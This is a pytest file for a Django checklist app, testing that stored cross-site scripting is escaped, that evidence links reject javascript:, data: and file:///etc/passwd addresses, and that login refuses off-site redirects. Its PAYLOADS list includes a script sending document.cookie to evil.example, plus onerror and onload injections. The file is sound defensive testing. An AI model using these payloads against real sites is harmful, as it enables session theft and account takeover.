"""Stored script never runs: what people type is escaped wherever it is shown, and links in it cannot carry script.

(The Content Security Policy would block inline script anyway; this is the first line of defence.)
"""

import pytest
from django.urls import reverse

from checklists.services.comments import comment_create
from checklists.services.evidence import evidence_add_link
from checklists.services.responses import response_save
from phb_readiness.sites.models import SiteRole
from tests.mfa_support import sign_in_verified
from tests.partnership_support import first_response

pytestmark = pytest.mark.django_db

PAYLOADS = [
    "<script>document.location='https://evil.example/?c='+document.cookie</script>",
    '"><img src=x onerror=alert(1)>',
    "javascript:alert(1)",
    "<svg/onload=alert(1)>",
]


def test_comments_narratives_and_evidence_titles_are_escaped_on_every_page(client, world):
    response = first_response(world.assessment_a)
    body = " ".join(PAYLOADS) + " see https://example.nhs.uk/x?a=1&b=<2>"
    response_save(response=response, user=world.contributor_a, data={"narrative": body}, base_version=response.version)
    comment_create(response=response, user=world.rep_a, role=SiteRole.UNION_REP, body=body)
    comment_create(response=response, user=world.rep_a, role=SiteRole.UNION_REP, body=body, is_concern=True)
    evidence_add_link(response=response, user=world.contributor_a, url="https://example.nhs.uk/p", title=PAYLOADS[1])

    sign_in_verified(client, world.reviewer)
    pages = [
        reverse("checklists:item", kwargs={"pk": world.assessment_a.pk, "code": response.item.code}),
        reverse("checklists:assessment", kwargs={"pk": world.assessment_a.pk}),
        reverse("partnership:concerns", kwargs={"code": world.site_a.code}),
        reverse("partnership:activity", kwargs={"code": world.site_a.code}),
    ]
    for url in pages:
        page = client.get(url)
        assert page.status_code == 200, url
        html = page.content.decode()
        assert "<script>document.location" not in html, url
        assert "<img src=x" not in html, url
        assert "<svg/onload" not in html, url
        assert 'href="javascript:' not in html.lower(), url


def test_an_evidence_link_must_be_http_or_https(client, world):
    client.force_login(world.contributor_a)
    response = first_response(world.assessment_a)
    url = reverse("checklists:evidence_add", kwargs={"pk": world.assessment_a.pk, "code": response.item.code})
    for address in ["javascript:alert(1)", "data:text/html,<script>alert(1)</script>", "file:///etc/passwd"]:
        page = client.post(url, {"link-url": address, "link-title": "x"})
        assert page.status_code in (200, 400), address
    assert not response.evidence.exists()


def test_sign_in_never_redirects_off_site(client, world):
    for target in ["https://evil.example/", "//evil.example/", "/\\evil.example/"]:
        page = client.post(
            reverse("login") + f"?next={target}",
            {"username": "manager-a", "password": "a-long-test-password-2009", "next": target},
        )
        assert page.status_code == 302
        assert page.url == reverse("home"), target
        client.logout()
